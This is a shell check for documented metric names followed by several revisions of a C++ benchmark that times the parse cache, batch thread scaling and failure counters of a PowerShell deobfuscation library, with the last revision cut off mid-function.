  echo "check_metrics_catalog: missing $doc" >&2
  exit 2
fi

names="$(grep -rhoE '"ideobf_[a-z0-9_]+"' "$root/src" | tr -d '"' | sort -u)"
if [ -z "$names" ]; then
  echo "check_metrics_catalog: found no ideobf_* literals under src/ (bad checkout?)" >&2
  exit 2
fi

missing=0
for name in $names; do
  if ! grep -qF "$name" "$doc"; then
    echo "undocumented metric: $name (add a catalog row to docs/OBSERVABILITY.md)" >&2
    missing=1
  fi
done

if [ "$missing" -eq 0 ]; then
  echo "check_metrics_catalog: all $(printf '%s\n' "$names" | wc -l) metric names documented"
fi
exit "$missing"
