// End-to-end pipeline throughput benchmark for the parse-once pipeline and
// the batch worker pool: single-script latency and parses-per-deobfuscation
// with the parse cache off / cold / warm, plus deobfuscate_batch throughput
// across thread counts over a synthetic corpus (hundreds of scripts from
// the seeded Fig-6 generator). `--json` writes BENCH_pipeline.json at the
// repo root so the perf trajectory is tracked PR over PR; `--smoke` runs a
// reduced corpus and fails unless the cache cuts parses >= 2x, the batch
// failure counters are consistent, and the pool's 4-thread warm batch is
// not materially slower than 1 thread (the ctest registration that keeps
// this binary — and those invariants — from bit-rotting).
//
// Flags: --smoke, --json, --threads N (sweep 1,2,4,... up to N),
// --scripts M (corpus size).

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <string>
#include <thread>
#include <vector>

#include "analysis/json_writer.h"
#include "core/batch.h"
#include "core/deobfuscator.h"
#include "corpus/corpus.h"
#include "psast/parse_cache.h"
#include "psast/parser.h"

// Wall-clock gates are meaningless under sanitizer instrumentation (TSan
// slows threads 5-15x and ASan's allocator serializes them); the count-based
// gates still run there.
#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
#define IDEOBF_SANITIZED 1
#elif defined(__has_feature)
#if __has_feature(address_sanitizer) || __has_feature(thread_sanitizer)
#define IDEOBF_SANITIZED 1
#endif
#endif
#ifndef IDEOBF_SANITIZED
#define IDEOBF_SANITIZED 0
#endif

namespace {

using namespace ideobf;

struct Row {
  std::string config;   ///< cache_off / cache_cold / cache_warm / batch_*
  unsigned threads = 1;
  bool warm = false;
  double seconds = 0.0;
  double ms_per_script = 0.0;
  double scripts_per_second = 0.0;
  double speedup_vs_1t = 0.0;  ///< warm batch rows: 1t warm seconds / seconds
  std::uint64_t parses = 0;
  double parses_per_script = 0.0;
  std::uint64_t cache_hits = 0;
  std::uint64_t cache_misses = 0;
  std::int64_t failed = 0;     ///< batch items with ok == false
  std::int64_t failures = 0;   ///< failed() plus degraded-but-served items
  std::int64_t degraded = 0;   ///< batch items served from a rung > 0
  std::int64_t max_rung = 0;   ///< worst degradation rung seen in the batch
};

double now_seconds() {
  return std::chrono::duration<double>(
             std::chrono::steady_clock::now().time_since_epoch())
      .count();
}

/// Serial run over the corpus with the given deobfuscator.
Row run_serial(const InvokeDeobfuscator& deobf,
               const std::vector<std::string>& scripts, std::string config,
               bool warm) {
  Row row;
  row.config = std::move(config);
  row.warm = warm;
  const auto hits0 =
      deobf.parse_cache() != nullptr ? deobf.parse_cache()->stats() : ps::ParseCacheStats{};
  const auto parses0 = ps::parse_call_count();
  const double t0 = now_seconds();
  for (const std::string& s : scripts) {
    volatile std::size_t sink = deobf.deobfuscate(s).size();
    (void)sink;
  }
  row.seconds = now_seconds() - t0;
  row.parses = ps::parse_call_count() - parses0;
  row.ms_per_script = row.seconds * 1000.0 / scripts.size();
  row.scripts_per_second = scripts.size() / row.seconds;
  row.parses_per_script = static_cast<double>(row.parses) / scripts.size();
  if (deobf.parse_cache() != nullptr) {
    const auto stats = deobf.parse_cache()->stats();
    row.cache_hits = stats.hits - hits0.hits;
    row.cache_misses = stats.misses - hits0.misses;
  }
  return row;
}

Row run_batch(const InvokeDeobfuscator& deobf,
              const std::vector<std::string>& scripts, unsigned threads,
              bool warm, const GovernorOptions& governor = {}) {
  Row row;
  row.config = "batch";
  row.threads = threads;
  row.warm = warm;
  const auto parses0 = ps::parse_call_count();
  BatchOptions options;
  options.threads = threads;
  options.governor = governor;
  BatchReport report;
  const double t0 = now_seconds();
  const auto out = deobfuscate_batch(deobf, scripts, report, options);
  (void)out;
  row.seconds = now_seconds() - t0;
  row.failed = report.failed();
  row.failures = report.failures();
  row.degraded = report.degraded();
  for (const BatchItem& item : report.items) {
    row.max_rung = std::max<std::int64_t>(row.max_rung, item.degradation_rung);
  }
  row.parses = ps::parse_call_count() - parses0;
  row.ms_per_script = row.seconds * 1000.0 / scripts.size();
  row.scripts_per_second = scripts.size() / row.seconds;
  row.parses_per_script = static_cast<double>(row.parses) / scripts.size();
  return row;
}

/// Best-of-n warm batch wall time: the smoke gate compares thread counts on
/// a one-core-capable box, so each sample must shed scheduler noise.
double best_warm_batch_seconds(const InvokeDeobfuscator& deobf,
                               const std::vector<std::string>& scripts,
                               unsigned threads, int samples) {
  double best = 1e300;
  for (int i = 0; i < samples; ++i) {
    best = std::min(best, run_batch(deobf, scripts, threads, true).seconds);
  }
  return best;
}

void print_rows(const std::vector<Row>& rows) {
  std::printf("%-14s %8s %6s %10s %12s %12s %14s %10s %10s %9s\n", "config",
              "threads", "warm", "seconds", "ms/script", "scripts/s",
              "parses/script", "hits", "misses", "x_vs_1t");
  for (const Row& r : rows) {
    std::printf(
        "%-14s %8u %6s %10.3f %12.3f %12.1f %14.2f %10llu %10llu %9.2f\n",
        r.config.c_str(), r.threads, r.warm ? "yes" : "no", r.seconds,
        r.ms_per_script, r.scripts_per_second, r.parses_per_script,
        static_cast<unsigned long long>(r.cache_hits),
        static_cast<unsigned long long>(r.cache_misses), r.speedup_vs_1t);
  }
}

std::string rows_to_json(const std::vector<Row>& rows, std::size_t corpus,
                         double parse_reduction, double speedup_8t_vs_1t,
                         unsigned speedup_threads) {
  JsonWriter w;
  w.begin_object();
  w.field("bench", "pipeline");
  w.field("corpus_scripts", static_cast<std::int64_t>(corpus));
  w.field("hardware_concurrency",
          static_cast<std::int64_t>(std::thread::hardware_concurrency()));
  w.field("parse_reduction_vs_uncached", parse_reduction);
  // Warm-batch speedup of the widest measured thread count over 1 thread.
  // On a 1-core runner this hovers near 1.0 by physics — read it together
  // with hardware_concurrency.
  w.field("speedup_8t_vs_1t", speedup_8t_vs_1t);
  w.field("speedup_measured_at_threads",
          static_cast<std::int64_t>(speedup_threads));
  w.begin_array("rows");
  for (const Row& r : rows) {
    w.begin_object();
    w.field("config", r.config);
    w.field("threads", static_cast<std::int64_t>(r.threads));
    w.field("warm", r.warm);
    w.field("seconds", r.seconds);
    w.field("ms_per_script", r.ms_per_script);
    w.field("scripts_per_second", r.scripts_per_second);
    w.field("speedup_vs_1t", r.speedup_vs_1t);
    w.field("parses", static_cast<std::int64_t>(r.parses));
    w.field("parses_per_script", r.parses_per_script);
    w.field("cache_hits", static_cast<std::int64_t>(r.cache_hits));
    w.field("cache_misses", static_cast<std::int64_t>(r.cache_misses));
    w.field("failed", r.failed);
    w.field("failures", r.failures);
    w.field("degraded", r.degraded);
    w.field("max_degradation_rung", r.max_rung);
    w.end_object();
  }
  w.end_array();
  w.end_object();
  return w.str();
}

int run(std::size_t corpus_size, unsigned max_threads, bool write_json,
        bool smoke) {
  // Synthetic corpus: same seeded generator as bench_fig6_time, scaled to
  // hundreds of scripts so batch rows measure steady-state pool behavior
  // rather than startup.
  CorpusGenerator gen(100);
  std::vector<std::string> scripts;
  scripts.reserve(corpus_size);
  for (const Sample& s : gen.generate_batch(corpus_size)) {
    scripts.push_back(s.obfuscated);
  }

  std::vector<Row> rows;

  // Size the cache to the corpus working set (~16 intermediate texts per
  // script): an LRU sized below it measures eviction churn, not the
  // pipeline. A triage server sizes its cache the same way.
  const std::size_t cache_entries =
      std::max<std::size_t>(1024, corpus_size * 24);
  const auto make_cached = [&] {
    DeobfuscationOptions opts;
    opts.shared_parse_cache = std::make_shared<ps::ParseCache>(cache_entries);
    return InvokeDeobfuscator(opts);
  };

  DeobfuscationOptions uncached_opts;
  uncached_opts.parse_cache = false;
  uncached_opts.recovery_memo = false;  // seed behavior: no cache, no memo
  rows.push_back(run_serial(InvokeDeobfuscator(uncached_opts), scripts,
                            "cache_off", false));

  const InvokeDeobfuscator cached = make_cached();
  rows.push_back(run_serial(cached, scripts, "cache_cold", false));
  rows.push_back(run_serial(cached, scripts, "cache_warm", true));

  std::vector<unsigned> thread_counts;
  for (unsigned t = 1; t < max_threads; t *= 2) thread_counts.push_back(t);
  thread_counts.push_back(max_threads);

  double warm_1t_seconds = 0.0;
  for (unsigned threads : thread_counts) {
    // A fresh shared cache per thread count keeps the cold rows comparable.
    const InvokeDeobfuscator batch_deobf = make_cached();
    rows.push_back(run_batch(batch_deobf, scripts, threads, false));
    rows.back().config = "batch_cold";
    rows.push_back(run_batch(batch_deobf, scripts, threads, true));
    rows.back().config = "batch_warm";
    if (threads == 1) warm_1t_seconds = rows.back().seconds;
    if (warm_1t_seconds > 0.0) {
      rows.back().speedup_vs_1t = warm_1t_seconds / rows.back().seconds;
    }
  }
  double speedup_widest = 0.0;
  unsigned speedup_threads = thread_counts.back();
  for (const Row& r : rows) {
    if (r.config == "batch_warm" && r.threads == speedup_threads) {
      speedup_widest = r.speedup_vs_1t;
    }
  }

  // Governed batch: the execution governor armed with a generous per-item
  // deadline over the same (benign) corpus. Zero failures / zero degraded
  // items expected — this row tracks the governor's overhead and proves the
  // ladder stays on rung 0 for well-behaved input.
  {
    const InvokeDeobfuscator governed_deobf = make_cached();
    GovernorOptions governor;
    governor.deadline_seconds = 10.0;
    rows.push_back(run_batch(governed_deobf, scripts, 4, false, governor));
    rows.back().config = "batch_governed";
    std::printf(
        "governed batch: failed=%lld failures=%lld degraded=%lld max_rung=%lld\n",
        static_cast<long long>(rows.back().failed),
        static_cast<long long>(rows.back().failures),
        static_cast<long long>(rows.back().degraded),
        static_cast<long long>(rows.back().max_rung));
  }

  const double reduction =
      rows[0].parses > 0 && rows[1].parses > 0
          ? static_cast<double>(rows[0].parses) / rows[1].parses
          : 0.0;

  std::printf("\nPipeline throughput over %zu corpus scripts (%u hw threads)\n",
              scripts.size(), std::thread::hardware_concurrency());
  print_rows(rows);
  std::printf("\nparse reduction (cache_off / cache_cold): %.2fx\n", reduction);
  std::printf("warm batch speedup %ut vs 1t: %.2fx\n", speedup_threads,
              speedup_widest);

  if (write_json) {
    const std::string path = std::string(IDEOBF_SOURCE_DIR) + "/BENCH_pipeline.json";
    std::ofstream out(path, std::ios::binary);
    out << rows_to_json(rows, scripts.size(), reduction, speedup_widest,
                        speedup_threads)
        << "\n";
    std::printf("wrote %s\n", path.c_str());
  }

  int rc = 0;

  // Acceptance gate 1: the parse-once pipeline must at least halve the
  // parses per deobfuscation relative to the uncached seed behavior.
  if (reduction < 2.0) {
    std::fprintf(stderr, "FAIL: parse reduction %.2fx < 2x\n", reduction);
    rc = 1;
  }

  // Acceptance gate 2: failure-counter consistency. The corpus is benign
  // and the governed deadline generous, so every batch row must report
  // failed == failures == degraded == 0 (failures() counting benign
  // per-piece hiccups was a real reporting bug: rows once said
  // "failures: 8" next to "failed: 0").
  for (const Row& r : rows) {
    if (r.config.rfind("batch", 0) != 0) continue;
    if (r.failed != 0 || r.failures != 0 || r.degraded != 0) {
      std::fprintf(stderr,
                   "FAIL: %s@%ut inconsistent/benign-failure counters: "
                   "failed=%lld failures=%lld degraded=%lld\n",
                   r.config.c_str(), r.threads,
                   static_cast<long long>(r.failed),
                   static_cast<long long>(r.failures),
                   static_cast<long long>(r.degraded));
      rc = 1;
    }
  }

  // Acceptance gate 3 (smoke only): pool overhead. A warm 4-thread batch
  // must not run more than 10% slower than 1 thread, even on a single-core
  // runner — the persistent pool's whole point is that extra slots cost
  // nearly nothing when they cannot help. Best-of-3 to shed noise.
  if (smoke && IDEOBF_SANITIZED) {
    std::printf("thread-scaling gate: skipped under sanitizers\n");
  } else if (smoke) {
    const InvokeDeobfuscator scale_deobf = make_cached();
    (void)run_batch(scale_deobf, scripts, 4, false);  // prime the cache
    const double s1 = best_warm_batch_seconds(scale_deobf, scripts, 1, 3);
    const double s4 = best_warm_batch_seconds(scale_deobf, scripts, 4, 3);
    std::printf("thread-scaling gate: warm 1t %.3fs vs 4t %.3fs (%.2fx)\n",
                s1, s4, s1 / s4);
    if (s4 > s1 * 1.10) {
      std::fprintf(stderr,
                   "FAIL: warm 4-thread batch %.3fs is more than 10%% slower "
                   "than 1-thread %.3fs\n",
                   s4, s1);
      rc = 1;
    }
  }
  return rc;
}

}  // namespace

int main(int argc, char** argv) {
  bool smoke = false;
  bool json = false;
  std::size_t scripts = 0;
  unsigned threads = 8;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--smoke") == 0) {
      smoke = true;
    } else if (std::strcmp(argv[i], "--json") == 0) {
      json = true;
    } else if (std::strcmp(argv[i], "--threads") == 0 && i + 1 < argc) {
      threads = static_cast<unsigned>(std::strtoul(argv[++i], nullptr, 10));
    } else if (std::strcmp(argv[i], "--scripts") == 0 && i + 1 < argc) {
      scripts = static_cast<std::size_t>(std::strtoul(argv[++i], nullptr, 10));
    } else {
      std::fprintf(stderr,
                   "usage: bench_pipeline [--smoke] [--json] [--threads N] "
                   "[--scripts M]\n");
      return 2;
    }
  }
  if (scripts == 0) scripts = smoke ? 64 : 300;
  if (threads == 0) threads = 1;
  return run(scripts, threads, json, smoke);
}
