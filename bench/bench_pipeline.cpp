// End-to-end pipeline throughput benchmark for the parse-once pipeline:
// single-script latency and parses-per-deobfuscation with the parse cache
// off / cold / warm, plus deobfuscate_batch throughput across thread counts
// over the 100-script Fig-6 corpus. `--json` writes BENCH_pipeline.json at
// the repo root so the perf trajectory is tracked PR over PR; `--smoke`
// runs a small corpus and fails unless the cache cuts parses >= 2x (the
// ctest registration that keeps this binary from bit-rotting).

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <string>
#include <vector>

#include "analysis/json_writer.h"
#include "core/batch.h"
#include "core/deobfuscator.h"
#include "corpus/corpus.h"
#include "psast/parse_cache.h"
#include "psast/parser.h"

namespace {

using namespace ideobf;

struct Row {
  std::string config;   ///< cache_off / cache_cold / cache_warm / batch
  unsigned threads = 1;
  bool warm = false;
  double seconds = 0.0;
  double ms_per_script = 0.0;
  double scripts_per_second = 0.0;
  std::uint64_t parses = 0;
  double parses_per_script = 0.0;
  std::uint64_t cache_hits = 0;
  std::uint64_t cache_misses = 0;
  std::int64_t failed = 0;     ///< batch items with ok == false
  std::int64_t failures = 0;   ///< batch items with a non-None FailureKind
  std::int64_t degraded = 0;   ///< batch items served from a rung > 0
  std::int64_t max_rung = 0;   ///< worst degradation rung seen in the batch
};

double now_seconds() {
  return std::chrono::duration<double>(
             std::chrono::steady_clock::now().time_since_epoch())
      .count();
}

/// Serial run over the corpus with the given deobfuscator.
Row run_serial(const InvokeDeobfuscator& deobf,
               const std::vector<std::string>& scripts, std::string config,
               bool warm) {
  Row row;
  row.config = std::move(config);
  row.warm = warm;
  const auto hits0 =
      deobf.parse_cache() != nullptr ? deobf.parse_cache()->stats() : ps::ParseCacheStats{};
  const auto parses0 = ps::parse_call_count();
  const double t0 = now_seconds();
  for (const std::string& s : scripts) {
    volatile std::size_t sink = deobf.deobfuscate(s).size();
    (void)sink;
  }
  row.seconds = now_seconds() - t0;
  row.parses = ps::parse_call_count() - parses0;
  row.ms_per_script = row.seconds * 1000.0 / scripts.size();
  row.scripts_per_second = scripts.size() / row.seconds;
  row.parses_per_script = static_cast<double>(row.parses) / scripts.size();
  if (deobf.parse_cache() != nullptr) {
    const auto stats = deobf.parse_cache()->stats();
    row.cache_hits = stats.hits - hits0.hits;
    row.cache_misses = stats.misses - hits0.misses;
  }
  return row;
}

Row run_batch(const InvokeDeobfuscator& deobf,
              const std::vector<std::string>& scripts, unsigned threads,
              bool warm, const GovernorOptions& governor = {}) {
  Row row;
  row.config = "batch";
  row.threads = threads;
  row.warm = warm;
  const auto parses0 = ps::parse_call_count();
  BatchOptions options;
  options.threads = threads;
  options.governor = governor;
  BatchReport report;
  const double t0 = now_seconds();
  const auto out = deobfuscate_batch(deobf, scripts, report, options);
  (void)out;
  row.seconds = now_seconds() - t0;
  row.failed = report.failed();
  row.failures = report.failures();
  row.degraded = report.degraded();
  for (const BatchItem& item : report.items) {
    row.max_rung = std::max<std::int64_t>(row.max_rung, item.degradation_rung);
  }
  row.parses = ps::parse_call_count() - parses0;
  row.ms_per_script = row.seconds * 1000.0 / scripts.size();
  row.scripts_per_second = scripts.size() / row.seconds;
  row.parses_per_script = static_cast<double>(row.parses) / scripts.size();
  return row;
}

void print_rows(const std::vector<Row>& rows) {
  std::printf("%-12s %8s %6s %10s %12s %12s %14s %10s %10s\n", "config",
              "threads", "warm", "seconds", "ms/script", "scripts/s",
              "parses/script", "hits", "misses");
  for (const Row& r : rows) {
    std::printf("%-12s %8u %6s %10.3f %12.3f %12.1f %14.2f %10llu %10llu\n",
                r.config.c_str(), r.threads, r.warm ? "yes" : "no", r.seconds,
                r.ms_per_script, r.scripts_per_second, r.parses_per_script,
                static_cast<unsigned long long>(r.cache_hits),
                static_cast<unsigned long long>(r.cache_misses));
  }
}

std::string rows_to_json(const std::vector<Row>& rows, std::size_t corpus,
                         double parse_reduction) {
  JsonWriter w;
  w.begin_object();
  w.field("bench", "pipeline");
  w.field("corpus_scripts", static_cast<std::int64_t>(corpus));
  w.field("parse_reduction_vs_uncached", parse_reduction);
  w.begin_array("rows");
  for (const Row& r : rows) {
    w.begin_object();
    w.field("config", r.config);
    w.field("threads", static_cast<std::int64_t>(r.threads));
    w.field("warm", r.warm);
    w.field("seconds", r.seconds);
    w.field("ms_per_script", r.ms_per_script);
    w.field("scripts_per_second", r.scripts_per_second);
    w.field("parses", static_cast<std::int64_t>(r.parses));
    w.field("parses_per_script", r.parses_per_script);
    w.field("cache_hits", static_cast<std::int64_t>(r.cache_hits));
    w.field("cache_misses", static_cast<std::int64_t>(r.cache_misses));
    w.field("failed", r.failed);
    w.field("failures", r.failures);
    w.field("degraded", r.degraded);
    w.field("max_degradation_rung", r.max_rung);
    w.end_object();
  }
  w.end_array();
  w.end_object();
  return w.str();
}

int run(std::size_t corpus_size, bool write_json) {
  // The Fig-6 corpus: same generator seed as bench_fig6_time.
  CorpusGenerator gen(100);
  std::vector<std::string> scripts;
  scripts.reserve(corpus_size);
  for (const Sample& s : gen.generate_batch(corpus_size)) {
    scripts.push_back(s.obfuscated);
  }

  std::vector<Row> rows;

  DeobfuscationOptions uncached_opts;
  uncached_opts.parse_cache = false;
  uncached_opts.recovery_memo = false;  // seed behavior: no cache, no memo
  rows.push_back(run_serial(InvokeDeobfuscator(uncached_opts), scripts,
                            "cache_off", false));

  const InvokeDeobfuscator cached;  // caching is the default
  rows.push_back(run_serial(cached, scripts, "cache_cold", false));
  rows.push_back(run_serial(cached, scripts, "cache_warm", true));

  for (unsigned threads : {1u, 2u, 4u, 8u}) {
    // A fresh shared cache per thread count keeps the cold rows comparable.
    DeobfuscationOptions batch_opts;
    batch_opts.shared_parse_cache = std::make_shared<ps::ParseCache>();
    const InvokeDeobfuscator batch_deobf(batch_opts);
    rows.push_back(run_batch(batch_deobf, scripts, threads, false));
    rows.back().config = "batch_cold";
    rows.push_back(run_batch(batch_deobf, scripts, threads, true));
    rows.back().config = "batch_warm";
  }

  // Governed batch: the execution governor armed with a generous per-item
  // deadline over the same (benign) corpus. Zero failures / zero degraded
  // items expected — this row tracks the governor's overhead and proves the
  // ladder stays on rung 0 for well-behaved input.
  {
    DeobfuscationOptions governed_opts;
    governed_opts.shared_parse_cache = std::make_shared<ps::ParseCache>();
    const InvokeDeobfuscator governed_deobf(governed_opts);
    GovernorOptions governor;
    governor.deadline_seconds = 10.0;
    rows.push_back(run_batch(governed_deobf, scripts, 4, false, governor));
    rows.back().config = "batch_governed";
    std::printf(
        "governed batch: failed=%lld failures=%lld degraded=%lld max_rung=%lld\n",
        static_cast<long long>(rows.back().failed),
        static_cast<long long>(rows.back().failures),
        static_cast<long long>(rows.back().degraded),
        static_cast<long long>(rows.back().max_rung));
  }

  const double reduction =
      rows[0].parses > 0 && rows[1].parses > 0
          ? static_cast<double>(rows[0].parses) / rows[1].parses
          : 0.0;

  std::printf("\nPipeline throughput over %zu corpus scripts\n",
              scripts.size());
  print_rows(rows);
  std::printf("\nparse reduction (cache_off / cache_cold): %.2fx\n", reduction);

  if (write_json) {
    const std::string path = std::string(IDEOBF_SOURCE_DIR) + "/BENCH_pipeline.json";
    std::ofstream out(path, std::ios::binary);
    out << rows_to_json(rows, scripts.size(), reduction) << "\n";
    std::printf("wrote %s\n", path.c_str());
  }

  // The acceptance gate: the parse-once pipeline must at least halve the
  // parses per deobfuscation relative to the uncached seed behavior.
  if (reduction < 2.0) {
    std::fprintf(stderr, "FAIL: parse reduction %.2fx < 2x\n", reduction);
    return 1;
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  bool smoke = false;
  bool json = false;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--smoke") == 0) smoke = true;
    else if (std::strcmp(argv[i], "--json") == 0) json = true;
  }
  return run(smoke ? 8 : 100, json);
}
