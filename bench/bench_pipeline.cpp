// End-to-end pipeline throughput benchmark for the parse-once pipeline and
// the batch worker pool: single-script latency and parses-per-deobfuscation
// with the parse cache off / cold / warm, plus deobfuscate_batch throughput
// across thread counts over a synthetic corpus (hundreds of scripts from
// the seeded Fig-6 generator). `--json` writes BENCH_pipeline.json at the
// repo root so the perf trajectory is tracked PR over PR; `--smoke` runs a
// reduced corpus and fails unless the cache cuts parses >= 2x, the batch
// failure counters are consistent, and the pool's 4-thread warm batch is
// not materially slower than 1 thread (the ctest registration that keeps
// this binary — and those invariants — from bit-rotting).
//
// A telemetry section runs one batch with the metrics subsystem enabled and
// folds a per-phase breakdown plus cache/memo hit rates (global and
// per-slot) and the piece-evaluation ladder split (static fold / compiled
// bytecode / tree-walk fallback) into the JSON; its gates assert span
// balance (opens == closes), parse-cache counter reconciliation, self-time
// partition of the pipeline total, that telemetry left off costs nothing
// measurable, that the ladder accounts for every piece execution (with the
// fold stage live), that the engine-global memo hits >= 70% of lookups, and
// that the warm serial pipeline stays at least 2x faster per script than
// the pre-ladder tree-walk baseline.
//
// A storm section drives the epoll I/O core directly: connection churn
// (conns/sec), ~1k concurrent clients with p50/p99 round-trip latency
// through the real fleet binary, and a slow-consumer drill whose
// count-based gates prove stalled readers are reaped (outbuf cap / write
// stall / idle) while innocent clients keep getting served.
//
// Flags: --smoke, --json, --storm-only (just the storm section + gates),
// --threads N (sweep 1,2,4,... up to N), --scripts M (corpus size).

#include <algorithm>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <fstream>
#include <string>
#include <thread>
#include <vector>

#include "analysis/json_writer.h"
#include "core/batch.h"
#include "core/deobfuscator.h"
#include "corpus/corpus.h"
#include "ideobf/client.h"
#include "psast/parse_cache.h"
#include "psast/parser.h"
#include "server/server.h"
#include "telemetry/telemetry.h"

#include <poll.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>

#include "server/event_loop.h"
#include "server/protocol.h"

#include <random>

// Wall-clock gates are meaningless under sanitizer instrumentation (TSan
// slows threads 5-15x and ASan's allocator serializes them); the count-based
// gates still run there.
#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
#define IDEOBF_SANITIZED 1
#elif defined(__has_feature)
#if __has_feature(address_sanitizer) || __has_feature(thread_sanitizer)
#define IDEOBF_SANITIZED 1
#endif
#endif
#ifndef IDEOBF_SANITIZED
#define IDEOBF_SANITIZED 0
#endif

namespace {

using namespace ideobf;

struct Row {
  std::string config;   ///< cache_off / cache_cold / cache_warm / batch_*
  unsigned threads = 1;
  bool warm = false;
  double seconds = 0.0;
  double ms_per_script = 0.0;
  double scripts_per_second = 0.0;
  double speedup_vs_1t = 0.0;  ///< warm batch rows: 1t warm seconds / seconds
  std::uint64_t parses = 0;
  double parses_per_script = 0.0;
  std::uint64_t cache_hits = 0;
  std::uint64_t cache_misses = 0;
  std::int64_t failed = 0;     ///< batch items with ok == false
  std::int64_t failures = 0;   ///< failed() plus degraded-but-served items
  std::int64_t degraded = 0;   ///< batch items served from a rung > 0
  std::int64_t max_rung = 0;   ///< worst degradation rung seen in the batch
};

double now_seconds() {
  return std::chrono::duration<double>(
             std::chrono::steady_clock::now().time_since_epoch())
      .count();
}

/// Gate budget for the per-request observability plane: a serve pass with
/// `"server_trace": true` on every request may cost at most this multiple of
/// the untraced pass (acceptance gate 16).
constexpr double kServeTraceOverheadBudget = 1.10;

/// Serial run over the corpus with the given deobfuscator.
Row run_serial(const InvokeDeobfuscator& deobf,
               const std::vector<std::string>& scripts, std::string config,
               bool warm) {
  Row row;
  row.config = std::move(config);
  row.warm = warm;
  const auto hits0 =
      deobf.parse_cache() != nullptr ? deobf.parse_cache()->stats() : ps::ParseCacheStats{};
  const auto parses0 = ps::parse_call_count();
  const double t0 = now_seconds();
  for (const std::string& s : scripts) {
    volatile std::size_t sink = deobf.deobfuscate(s).size();
    (void)sink;
  }
  row.seconds = now_seconds() - t0;
  row.parses = ps::parse_call_count() - parses0;
  row.ms_per_script = row.seconds * 1000.0 / scripts.size();
  row.scripts_per_second = scripts.size() / row.seconds;
  row.parses_per_script = static_cast<double>(row.parses) / scripts.size();
  if (deobf.parse_cache() != nullptr) {
    const auto stats = deobf.parse_cache()->stats();
    row.cache_hits = stats.hits - hits0.hits;
    row.cache_misses = stats.misses - hits0.misses;
  }
  return row;
}

Row run_batch(const InvokeDeobfuscator& deobf,
              const std::vector<std::string>& scripts, unsigned threads,
              bool warm, const Options::Limits& governor = {}) {
  Row row;
  row.config = "batch";
  row.threads = threads;
  row.warm = warm;
  const auto parses0 = ps::parse_call_count();
  Options options;
  options.threads = threads;
  options.limits = governor;
  BatchReport report;
  const double t0 = now_seconds();
  const auto out = deobfuscate_batch(deobf, scripts, report, options);
  (void)out;
  row.seconds = now_seconds() - t0;
  row.failed = report.failed();
  row.failures = report.failures();
  row.degraded = report.degraded();
  for (const BatchItem& item : report.items) {
    row.max_rung = std::max<std::int64_t>(row.max_rung, item.degradation_rung);
  }
  row.parses = ps::parse_call_count() - parses0;
  row.ms_per_script = row.seconds * 1000.0 / scripts.size();
  row.scripts_per_second = scripts.size() / row.seconds;
  row.parses_per_script = static_cast<double>(row.parses) / scripts.size();
  return row;
}

/// Best-of-n warm batch wall time: the smoke gate compares thread counts on
/// a one-core-capable box, so each sample must shed scheduler noise.
double best_warm_batch_seconds(const InvokeDeobfuscator& deobf,
                               const std::vector<std::string>& scripts,
                               unsigned threads, int samples) {
  double best = 1e300;
  for (int i = 0; i < samples; ++i) {
    best = std::min(best, run_batch(deobf, scripts, threads, true).seconds);
  }
  return best;
}

double best_warm_serial_seconds(const InvokeDeobfuscator& deobf,
                                const std::vector<std::string>& scripts,
                                int samples) {
  double best = 1e300;
  for (int i = 0; i < samples; ++i) {
    best = std::min(best, run_serial(deobf, scripts, "sample", true).seconds);
  }
  return best;
}

namespace tel = ideobf::telemetry;

/// What the telemetry section measures: the enabled-run phase breakdown and
/// registry-derived rates, plus the disabled-overhead ratio the smoke gate
/// checks (telemetry off must cost one atomic-flag branch, i.e. ~nothing).
struct TelemetrySummary {
  double overhead_ratio = 0.0;  ///< warm serial off-after / off-before
  std::uint64_t spans_opened = 0;
  std::uint64_t spans_closed = 0;
  std::uint64_t cache_lookups = 0;  ///< registry ideobf_parse_cache_*_total
  std::uint64_t cache_hits = 0;
  std::uint64_t cache_misses = 0;
  std::uint64_t cache_bypasses = 0;
  double parse_cache_hit_rate = 0.0;
  std::uint64_t memo_lookups = 0;
  std::uint64_t memo_hits = 0;
  /// Global hit rate of the engine-wide memo (counters merged over every
  /// shard, i.e. every pool slot).
  double recovery_memo_hit_rate = 0.0;
  /// The same rate per pool slot (metric shard): slot s of the enabled
  /// batch records into shard s, so these show each worker's share of the
  /// shared memo's hits.
  std::vector<double> per_slot_hit_rates;
  // Piece-evaluation ladder counters (registry ideobf_recovery_*_total),
  // captured over the *cold* prime run of the fresh engine — the only
  // window where the ladder resolves work; on a warm engine every piece is
  // a global-memo hit. Every piece execution is either a memo hit or
  // resolved by exactly one ladder stage, so piece_execs == piece_memo_hits
  // + folds + bytecode_execs + treewalk_fallbacks (gate 8).
  std::uint64_t piece_execs = 0;
  std::uint64_t piece_memo_hits = 0;
  std::uint64_t folds = 0;
  std::uint64_t bytecode_execs = 0;
  std::uint64_t treewalk_fallbacks = 0;
  double fold_rate = 0.0;  ///< folds / memo-miss executions
  // Per-stage piece_eval latency split (ideobf_piece_eval_seconds{stage=}).
  double fold_seconds = 0.0;
  double vm_seconds = 0.0;
  double fallback_seconds = 0.0;
  double accounted_seconds = 0.0;  ///< sum of per-phase self times
  double pipeline_seconds = 0.0;   ///< sum of Pipeline-span wall times
  double batch_wall_seconds = 0.0; ///< measured wall clock of the same batch
  tel::PipelineProfile profile;    ///< cold prime run + enabled warm batch
};

/// One telemetry-enabled batch over the corpus plus the off/on/off overhead
/// measurement. Returns the summary and appends its rows.
TelemetrySummary run_telemetry_section(
    const InvokeDeobfuscator& deobf, const std::vector<std::string>& scripts,
    std::vector<Row>& rows, unsigned threads) {
  TelemetrySummary ts;

  // Cold window: the prime run of this fresh engine is where the
  // piece-evaluation ladder actually resolves work — on a warm engine every
  // piece is a global-memo hit and fold/vm/fallback never fire — so the
  // ladder counters and per-stage latency split are captured here, before
